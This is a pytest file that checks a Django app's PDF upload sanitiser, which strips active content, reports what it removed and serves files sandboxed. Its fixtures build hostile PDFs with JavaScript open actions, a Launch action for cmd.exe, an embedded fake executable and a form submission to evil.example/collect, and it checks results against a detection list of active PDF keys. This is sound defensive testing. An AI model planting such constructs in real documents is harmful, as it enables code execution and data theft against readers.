"""Uploaded PDFs lose their active content, say so, and are served sandboxed."""

from __future__ import annotations

import hashlib
import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String

from evidence.files import FileRefused, check_upload
from evidence.models import Evidence
from tests.conftest import finish

PAYLOAD = "app.alert('owned')"
ACTIVE_NAMES = {"/JavaScript", "/JS", "/AA", "/Launch", "/SubmitForm", "/ImportData", "/EmbeddedFile", "/EF"}


def js(code: str = PAYLOAD) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def new_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
    return pdf


def link(pdf: pikepdf.Pdf, action: Dictionary, **extra) -> pikepdf.Object:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50], A=action, **extra)
    return pdf.make_indirect(annotation)


def as_bytes(pdf: pikepdf.Pdf) -> bytes:
    output = io.BytesIO()
    pdf.save(output)
    return output.getvalue()


def with_open_action() -> bytes:
    pdf = new_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(js())
    return as_bytes(pdf)


def with_javascript_name_tree() -> bytes:
    pdf = new_pdf()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(js())])))
    return as_bytes(pdf)


def with_page_additional_actions() -> bytes:
    pdf = new_pdf()
    pdf.pages[0].obj.AA = Dictionary(O=js(), C=js())
    return as_bytes(pdf)


def with_annotation_additional_actions() -> bytes:
    pdf = new_pdf()
    action = Dictionary(S=Name.URI, URI=String("https://example.org/"))
    pdf.pages[0].obj.Annots = Array([link(pdf, action, AA=Dictionary(E=js()))])
    return as_bytes(pdf)


def with_launch_link() -> bytes:
    pdf = new_pdf()
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
    pdf.pages[0].obj.Annots = Array([link(pdf, launch)])
    return as_bytes(pdf)


def with_embedded_file() -> bytes:
    pdf = new_pdf()
    stream = pikepdf.Stream(pdf, b"MZ pretend program")
    stream.Type = Name.EmbeddedFile
    filespec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=stream)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("run.exe"), filespec])))
    attachment = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=filespec)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(attachment)])
    return as_bytes(pdf)


def with_form_actions() -> bytes:
    pdf = new_pdf()
    submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))
    load = Dictionary(S=Name.ImportData, F=String("data.fdf"))
    pdf.pages[0].obj.Annots = Array([link(pdf, submit), link(pdf, load)])
    return as_bytes(pdf)


def with_javascript_uri_and_chained_script() -> bytes:
    pdf = new_pdf(pages=2)
    bad_uri = Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=js())
    pdf.pages[0].obj.Annots = Array([link(pdf, bad_uri), link(pdf, goto)])
    return as_bytes(pdf)


ACTIVE_PDFS = {
    "open action": (with_open_action, "an action run when the document opens"),
    "javascript name tree": (with_javascript_name_tree, "JavaScript"),
    "page additional actions": (with_page_additional_actions, "additional actions"),
    "annotation additional actions": (with_annotation_additional_actions, "additional actions"),
    "launch": (with_launch_link, "actions that start programs"),
    "embedded file": (with_embedded_file, "embedded files"),
    "submit and import": (with_form_actions, "form submission"),
    "javascript uri and chain": (with_javascript_uri_and_chained_script, "links to unsafe addresses"),
}


def active_content(content: bytes) -> set[str]:
    """Every active name or unsafe link left anywhere in the file, nested values included."""
    found: set[str] = set()

    def visit(value, depth: int = 0) -> None:
        if depth > 50 or (depth and getattr(value, "is_indirect", False)):
            return  # indirect objects are visited from pdf.objects
        if isinstance(value, Name) and str(value) in ACTIVE_NAMES:
            found.add(str(value))
        elif isinstance(value, String) and str(value).lower().startswith("javascript:"):
            found.add("javascript: link")
        elif isinstance(value, Array):
            for item in value:
                visit(item, depth + 1)
        elif isinstance(value, Dictionary | pikepdf.Stream):
            for key in value.keys():  # noqa: SIM118 - a stream's dictionary
                if key in ACTIVE_NAMES:
                    found.add(key)
                visit(value[key], depth + 1)

    with pikepdf.open(io.BytesIO(content)) as pdf:
        for obj in pdf.objects:
            visit(obj)
    return found


@pytest.mark.parametrize("case", ACTIVE_PDFS, ids=list(ACTIVE_PDFS))
def test_it_removes_each_kind_of_active_content_and_says_what(case):
    build, label = ACTIVE_PDFS[case]
    original = build()
    assert active_content(original), "the test PDF must carry active content"

    clean = check_upload("report.pdf", original)

    assert clean.file_type.key == "pdf"
    assert active_content(clean.content) == set()
    assert PAYLOAD.encode() not in clean.content
    assert b"MZ pretend program" not in clean.content
    assert any(label in item for item in clean.removed)
    assert label in clean.removal_note
    assert clean.sha256 == hashlib.sha256(clean.content).hexdigest()
    assert len(pikepdf.open(io.BytesIO(clean.content)).pages) >= 1


def test_it_keeps_safe_links_and_page_jumps():
    pdf = new_pdf(pages=2)
    web = Dictionary(S=Name.URI, URI=String("https://www.example.org/report"))
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
    pdf.pages[0].obj.Annots = Array([link(pdf, web), link(pdf, goto)])
    pdf.Root.OpenAction = Array([pdf.pages[1].obj, Name.Fit])
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), pdf.make_indirect(js())])))

    clean = check_upload("plan.pdf", as_bytes(pdf))

    with pikepdf.open(io.BytesIO(clean.content)) as stored:
        annotations = stored.pages[0].obj.Annots
        assert str(annotations[0].A.URI) == "https://www.example.org/report"
        assert str(annotations[1].A.S) == "/GoTo"
        assert "/OpenAction" in stored.Root
    assert clean.removed == ("JavaScript",)


def test_a_pdf_without_active_content_is_stored_as_uploaded():
    pdf = new_pdf()
    original = as_bytes(pdf)

    clean = check_upload("plain.pdf", original)

    assert clean.content == original
    assert clean.removed == ()
    assert clean.removal_note == ""
    assert clean.sha256 == hashlib.sha256(original).hexdigest()


def test_it_refuses_an_encrypted_pdf():
    pdf = new_pdf()
    pdf.Root.OpenAction = js()
    output = io.BytesIO()
    pdf.save(output, encryption=pikepdf.Encryption(owner="owner", user="secret"))

    with pytest.raises(FileRefused, match="protected with a password"):
        check_upload("locked.pdf", output.getvalue())


def test_it_refuses_a_pdf_encrypted_with_only_an_owner_password():
    pdf = new_pdf()
    output = io.BytesIO()
    pdf.save(output, encryption=pikepdf.Encryption(owner="owner", user=""))

    with pytest.raises(FileRefused, match="protected with a password"):
        check_upload("restricted.pdf", output.getvalue())


def test_it_refuses_a_damaged_pdf():
    with pytest.raises(FileRefused, match="damaged"):
        check_upload("broken.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50)


# --- Through the page: stored, told, served sandboxed -------------------------------------


def add_url(portfolio):
    return reverse("evidence:add", kwargs={"portfolio_pk": portfolio.pk, "kind": "file"})


@pytest.mark.django_db
def test_an_uploaded_pdf_is_stored_clean_with_provenance_and_served_sandboxed(client, learner, portfolio):
    client.force_login(learner)

    response = client.post(
        add_url(portfolio),
        {
            "upload": SimpleUploadedFile("Policy.pdf", with_embedded_file(), content_type="application/pdf"),
            "title": "Social media policy",
            "occurred_on": "2026-03-02",
        },
    )

    assert response.status_code == 302
    evidence = Evidence.objects.get(portfolio=portfolio)
    with evidence.file.open("rb") as handle:
        stored = handle.read()
    assert active_content(stored) == set()
    assert evidence.sha256 == hashlib.sha256(stored).hexdigest()
    assert evidence.file_size == len(stored)
    assert "embedded files" in evidence.removed_on_upload

    detail = client.get(evidence.get_absolute_url())
    assert "Removed on upload" in detail.content.decode()
    assert "embedded files" in detail.content.decode()

    served = client.get(reverse("evidence:file", args=[portfolio.pk, evidence.pk]))
    body = b"".join(served.streaming_content)
    finish(served)
    assert body == stored
    assert served["Content-Type"] == "application/pdf"
    assert served["Content-Disposition"].startswith("inline")
    assert served["X-Content-Type-Options"] == "nosniff"
    policy = served["Content-Security-Policy"]
    assert "sandbox" in policy
    assert "default-src 'none'" in policy


@pytest.mark.django_db
def test_an_encrypted_pdf_is_refused_next_to_the_field_and_nothing_is_saved(
    client, learner, portfolio, settings
):
    client.force_login(learner)
    output = io.BytesIO()
    new_pdf().save(output, encryption=pikepdf.Encryption(owner="o", user="u"))

    response = client.post(
        add_url(portfolio),
        {
            "upload": SimpleUploadedFile("locked.pdf", output.getvalue()),
            "title": "Locked",
            "occurred_on": "2026-03-02",
        },
    )

    assert response.status_code == 200
    assert "protected with a password" in response.context["form"].errors["upload"][0]
    assert not Evidence.objects.filter(portfolio=portfolio).exists()
    root = settings.MEDIA_ROOT
    assert not root.exists() or not [p for p in root.rglob("*") if p.is_file()]
